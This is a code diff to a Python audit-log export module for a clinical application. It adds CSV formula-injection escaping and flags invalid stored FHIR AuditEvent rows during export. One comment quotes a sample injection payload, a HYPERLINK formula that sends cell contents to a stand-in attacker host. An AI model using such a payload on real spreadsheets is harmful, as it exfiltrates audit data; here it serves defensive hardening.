@@ -14,7 +14,9 @@ import uuid
 from collections.abc import Iterable, Iterator
 from typing import Any
 
+from fhir.resources.R4B.auditevent import AuditEvent as FhirAuditEvent
 from fhir.resources.R4B.bundle import Bundle
+from pydantic import ValidationError
 
 from audit.models import Action, AuditEvent, Outcome
 from clinical.models import ClinicianReview
@@ -49,11 +51,29 @@ PARTICIPANT_TYPE = "http://terminology.hl7.org/CodeSystem/provenance-participant
 # FHIR R4 AuditEvent.outcome: 0 success, 4 minor failure (the request was refused or failed).
 FHIR_OUTCOME = {Outcome.SUCCESS: "0", Outcome.FAILURE: "4"}
 FHIR_ACTION = {a.value for a in Action}
+# The tag on an AuditEvent exported from a stored row that does not make a valid resource (a
+# value outside its field's choices, written past the application): the row is exported as
+# stored, flagged, rather than the whole export failing or the row silently left out.
+FLAG_SYSTEM = "urn:bedside:export-flag"
+FLAG_INVALID = "invalid-stored-event"
 
 
 def _urn(kind: str, key: object) -> str:
     """A stable urn:uuid for a Bundle entry (fullUrl must be an absolute URI)."""
     return f"urn:uuid:{uuid.uuid5(uuid.NAMESPACE_URL, f'urn:bedside:{kind}:{key}')}"
+
+
+# A cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets
+# (CSV injection): a user name typed at the sign-in form, say
+# =HYPERLINK("http://evil.example/?"&A2&B2,"Open"), would send the auditor's export elsewhere.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(value: object) -> str:
+    """The cell as text, with a leading ' when a spreadsheet would read it as a formula
+    (OWASP's advice): the auditor sees the text as recorded, after the quote, and nothing runs."""
+    text = str(value)
+    return f"'{text}" if text.startswith(FORMULA_STARTS) else text
 
 
 class _Echo:
@@ -62,7 +82,8 @@ class _Echo:
 
 
 def csv_lines(events: Iterable[AuditEvent]) -> Iterator[str]:
-    """One header line, then one line per event; details as canonical JSON."""
+    """One header line, then one line per event; details as canonical JSON. Every cell goes
+    through spreadsheet_safe: the text of any column may come from outside."""
     writer = csv.writer(_Echo())
     yield writer.writerow(CSV_COLUMNS)
     for event in events:
@@ -73,7 +94,7 @@ def csv_lines(events: Iterable[AuditEvent]) -> Iterator[str]:
                 value = json.dumps(value, sort_keys=True, separators=(",", ":"))
             elif column == "recorded_at":
                 value = value.isoformat()
-            row.append("" if value is None else value)
+            row.append("" if value is None else spreadsheet_safe(value))
         yield writer.writerow(row)
 
 
@@ -142,6 +163,71 @@ def audit_event_resource(event: AuditEvent) -> dict[str, Any]:
             "system": "urn:bedside:request-id",
             "value": event.request_id,
         }
+    return resource
+
+
+def _problem(exc: Exception) -> str:
+    """What is wrong with a row, naming fields, never quoting values."""
+    if isinstance(exc, ValidationError):
+        return "; ".join(
+            f"{'.'.join(str(part) for part in error['loc'])}: {error['msg']}"
+            for error in exc.errors(include_url=False, include_input=False)
+        )[:500]
+    return f"{type(exc).__name__}: {exc}"[:500]
+
+
+def flagged_event_resource(event: AuditEvent, problem: str) -> dict[str, Any]:
+    """A minimal valid AuditEvent for a stored row that is not one: tagged invalid, with the
+    problem and the row's stored values as text, so the auditor sees which row to check
+    (``manage.py verify_audit`` names tampered ones)."""
+    stored = {
+        field.attname: getattr(event, field.attname) for field in AuditEvent._meta.concrete_fields
+    }
+    return {
+        "resourceType": "AuditEvent",
+        "id": f"bedside-{event.id}",
+        "meta": {
+            "tag": [
+                {
+                    "system": FLAG_SYSTEM,
+                    "code": FLAG_INVALID,
+                    "display": "the stored event is not a valid audit event; verify the chain",
+                }
+            ]
+        },
+        "type": {
+            "system": "http://terminology.hl7.org/CodeSystem/audit-event-type",
+            "code": "rest",
+        },
+        "recorded": event.recorded_at.isoformat(),
+        "outcomeDesc": f"exported as stored, not valid: {problem}",
+        "agent": [{"who": {"display": str(event.actor_label)}, "requestor": False}],
+        "source": {"observer": {"display": "Bedside"}, "site": "bedside"},
+        "entity": [
+            {
+                "what": {
+                    "identifier": {"system": "urn:bedside:audit-event", "value": str(event.id)}
+                },
+                "detail": [
+                    {
+                        "type": "stored",
+                        "valueString": json.dumps(stored, sort_keys=True, default=str),
+                    }
+                ],
+            }
+        ],
+    }
+
+
+def checked_event_resource(event: AuditEvent, *, validate: bool = False) -> dict[str, Any]:
+    """The event as an AuditEvent (validated on its own when asked), or, when its stored
+    values do not make one, flagged."""
+    try:
+        resource = audit_event_resource(event)
+        if validate:
+            FhirAuditEvent.model_validate(resource)
+    except (ValueError, TypeError, KeyError) as exc:  # pydantic's ValidationError included
+        return flagged_event_resource(event, _problem(exc))
     return resource
 
 
@@ -245,7 +331,8 @@ def fhir_bundle(events: list[AuditEvent]) -> dict[str, Any]:
     ):
         latest_reviews[review.run_id] = review
     entries = [
-        {"fullUrl": _urn("audit-event", e.id), "resource": audit_event_resource(e)} for e in events
+        {"fullUrl": _urn("audit-event", e.id), "resource": checked_event_resource(e)}
+        for e in events
     ]
     entries += [
         {
@@ -257,6 +344,12 @@ def fhir_bundle(events: list[AuditEvent]) -> dict[str, Any]:
     ]
     bundle = {"resourceType": "Bundle", "type": "collection", "entry": entries}
     # Validated once, whole, by the R4B models (every entry's resource with it): an export an
-    # auditor cannot load elsewhere is worse than none, and a bad one raises here.
-    Bundle.model_validate(bundle)
+    # auditor cannot load elsewhere is worse than none. When it fails, each event is checked
+    # on its own and the ones that fail are flagged; what still fails then is our own bug.
+    try:
+        Bundle.model_validate(bundle)
+    except ValidationError:
+        for entry, event in zip(entries, events, strict=False):
+            entry["resource"] = checked_event_resource(event, validate=True)
+        Bundle.model_validate(bundle)
     return bundle
